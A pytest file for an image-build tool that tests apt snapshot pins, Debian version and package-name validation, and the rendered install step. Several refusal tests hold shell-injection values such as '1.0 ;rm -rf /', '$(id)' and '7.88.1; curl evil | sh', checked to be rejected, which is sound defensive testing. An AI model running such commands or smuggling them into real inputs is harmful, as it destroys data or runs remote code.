"""The apt pin, Debian's grammars, apt.lock.toml and step 4's rendered OS package install."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from imagebuild.errors import ConfigError
from imagebuild.inputs.apt_lock import AptPackage, apt_lock_path_for, read_apt_lock, render_apt_lock
from imagebuild.inputs.debian import DEB_PACKAGE, DEB_VERSION
from imagebuild.pins import AptPin, Refresh, parse_pins
from tests import REPO
from tests.unit.apt_support import PACKAGES, apt_lock_for, write_apt_lock
from tests.unit.render_support import rendered

APT = {
    "kind": "apt",
    "archive": "https://snapshot.ubuntu.com/ubuntu",
    "suite": "jammy",
    "components": ["main"],
    "signed_by": "/usr/share/keyrings/ubuntu-archive-keyring.gpg",
    "snapshot": "",
}


def apt_pin(**changes: object) -> AptPin:
    (pin,) = parse_pins({"apt": {**APT, **changes}}, Path("pins.toml"))
    assert isinstance(pin, AptPin)
    return pin


@pytest.mark.parametrize(
    "version", ["1:2.39.5-0+deb12u2", "7.88.1-10+deb12u8", "3.0.11-1~deb12u2", "20230311"]
)
def test_debian_versions_are_accepted(version: str) -> None:
    assert DEB_VERSION.problem(version) is None


@pytest.mark.parametrize("version", ["1:", "a1", "1.0-", "1.0 ;rm -rf /", "$(id)", "1.0'"])
def test_what_is_no_debian_version_is_refused(version: str) -> None:
    assert DEB_VERSION.problem(version) is not None


@pytest.mark.parametrize("name", ["Git", "g", "-x", "a;b", "a b", "curl$"])
def test_what_is_no_debian_package_name_is_refused(name: str) -> None:
    assert DEB_PACKAGE.problem(name) is not None


def test_an_unlocked_apt_pin_is_filled_by_lock_and_then_kept() -> None:
    pin = apt_pin()
    assert (pin.identity, pin.refresh) == (None, Refresh.WHEN_EMPTY)
    locked = apt_pin(snapshot="20261201T000000Z")
    assert locked.snapshot_url() == "https://snapshot.ubuntu.com/ubuntu/20261201T000000Z/"
    assert locked.build_args() == {"APT_SNAPSHOT_URL": "https://snapshot.ubuntu.com/ubuntu/20261201T000000Z/"}


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        ({"snapshot": "2026-12-01"}, "'snapshot' = '2026-12-01' is not a snapshot ID"),
        ({"snapshot": "20261301T000000Z"}, "is not a real date and time"),
        ({"archive": "http://snapshot.ubuntu.com/ubuntu"}, "uses http:// to a host that is not loopback"),
        ({"components": []}, "'components' is empty"),
        ({"suite": "Jammy"}, "is not an apt suite"),
    ],
)
def test_bad_apt_pins_are_one_line_naming_the_pin(changes: dict[str, object], says: str) -> None:
    with pytest.raises(ConfigError) as caught:
        apt_pin(**changes)
    assert "[apt]" in str(caught.value)
    assert says in str(caught.value)
    assert "\n" not in str(caught.value)


@pytest.fixture
def locked_project(tmp_path: Path) -> Path:
    """The checkout's inputs with every pin locked and an apt lock that agrees with them."""
    for name in ("stages", "constraints"):
        shutil.copytree(REPO / name, tmp_path / name)
    shutil.copy(REPO / "pylock.toml", tmp_path / "pylock.toml")
    text = (REPO / "pins.toml").read_text()
    text = text.replace('digest = ""', f'digest = "sha256:{"ab" * 32}"').replace(
        'sha256 = ""', f'sha256 = "{"cd" * 32}"'
    )
    text = text.replace('committed = ""', 'committed = "2026-08-11T00:00:00Z"')
    text = text.replace('snapshot = ""', 'snapshot = "20261201T000000Z"')
    (tmp_path / "pins.toml").write_text(text)
    write_apt_lock(tmp_path / "pins.toml")
    return tmp_path


def test_the_apt_lock_round_trips_byte_for_byte(locked_project: Path) -> None:
    path = apt_lock_path_for(locked_project / "pins.toml")
    lock = read_apt_lock(path)
    assert lock == apt_lock_for(locked_project / "pins.toml")
    assert lock is not None
    assert render_apt_lock(lock) == path.read_text()


def test_an_apt_lock_that_is_not_toml_says_how_to_remake_it(locked_project: Path) -> None:
    path = apt_lock_path_for(locked_project / "pins.toml")
    path.write_text(path.read_text() + "[[packages\n")
    with pytest.raises(ConfigError, match=r"apt\.lock\.toml: invalid TOML: .*; regenerate it with `imagebuild lock`$"):
        read_apt_lock(path)


def test_step_4_installs_exactly_the_locked_set_from_the_snapshot_only(locked_project: Path) -> None:
    text = rendered(locked_project, allow_unpinned=False).text
    step4 = text.split("# [4/18]")[1].split("# [5/18]")[0]
    assert 'ARG APT_SNAPSHOT_URL="https://snapshot.ubuntu.com/ubuntu/20261201T000000Z/"' in step4
    assert (
        'echo "deb [signed-by=/usr/share/keyrings/ubuntu-archive-keyring.gpg check-valid-until=no] '
        '${APT_SNAPSHOT_URL} jammy main universe" > /etc/apt/sources.list.d/imagebuild-snapshot.list'
    ) in step4
    words = " ".join(f'"{p.name}={p.version}"' for p in PACKAGES)
    assert f"printf '%s\\n' {words} | LC_ALL=C sort > /tmp/imagebuild-apt-locked.txt" in step4
    assert "trusted=yes" not in step4
    # The base's lists (ROCm's on the real base) are set aside for the step and put back.
    assert step4.index("mv -t /etc/apt/imagebuild-set-aside/sources.list.d/") < step4.index("apt-get update")
    assert step4.index("xargs -a /tmp/imagebuild-apt-locked.txt env DEBIAN_FRONTEND") < step4.index(
        "-exec mv -t /etc/apt/sources.list.d/"
    )
    assert "apt would install packages apt.lock.toml does not hold" in step4
    assert "pins: apt, mori" in step4
    assert "UNPINNED" not in text


def test_a_lock_of_another_snapshot_is_refused_with_one_line(locked_project: Path) -> None:
    pins = locked_project / "pins.toml"
    pins.write_text(
        pins.read_text().replace('snapshot = "20261201T000000Z"', 'snapshot = "20261202T000000Z"')
    )
    with pytest.raises(ConfigError) as caught:
        rendered(locked_project, allow_unpinned=False)
    message = str(caught.value)
    assert "apt.lock.toml was resolved from snapshot 20261201T000000Z" in message
    assert "pins 20261202T000000Z" in message
    assert "imagebuild lock" in message
    assert "\n" not in message


def test_a_lock_of_another_base_or_other_names_is_refused(locked_project: Path) -> None:
    pins = locked_project / "pins.toml"
    pins.write_text(pins.read_text().replace(f"sha256:{'ab' * 32}", f"sha256:{'ef' * 32}"))
    with pytest.raises(ConfigError, match="was resolved against base sha256:abab"):
        rendered(locked_project, allow_unpinned=False)


def test_a_missing_apt_lock_is_refused_unless_unpinned_is_allowed(locked_project: Path) -> None:
    apt_lock_path_for(locked_project / "pins.toml").unlink()
    with pytest.raises(ConfigError, match=r"apt\.lock\.toml is missing"):
        rendered(locked_project, allow_unpinned=False)
    text = rendered(locked_project).text
    assert "UNPINNED" in text
    assert "apt packages" in text
    assert "apt-get install -y --no-install-recommends git build-essential" in text


def test_a_bad_version_in_the_lock_file_never_reaches_the_run_line(locked_project: Path) -> None:
    path = apt_lock_path_for(locked_project / "pins.toml")
    path.write_text(path.read_text().replace('"7.88.1-10+deb12u8"', '"7.88.1; curl evil | sh"'))
    with pytest.raises(ConfigError, match=r"'version' = .* is not a Debian version"):
        rendered(locked_project, allow_unpinned=False)


def test_an_in_base_package_needs_no_sha256_but_a_downloaded_one_does(locked_project: Path) -> None:
    bad = (AptPackage(name="curl", version="7.88.1-10+deb12u8", sha256=""),)
    with pytest.raises(ConfigError, match="'sha256' = '' is not a valid 64-hex sha256"):
        render_apt_lock(apt_lock_for(locked_project / "pins.toml", bad))


def test_verify_expects_every_locked_os_package_at_its_locked_version(locked_project: Path) -> None:
    from imagebuild.project import find_project
    from imagebuild.verify.expectations import Expectations, build_expectations

    expectations = build_expectations(find_project(locked_project).load("gfx942"), image="x")
    assert expectations.apt_packages == tuple(p.requirement for p in PACKAGES)
    assert Expectations.from_json(expectations.to_json()).apt_packages == expectations.apt_packages
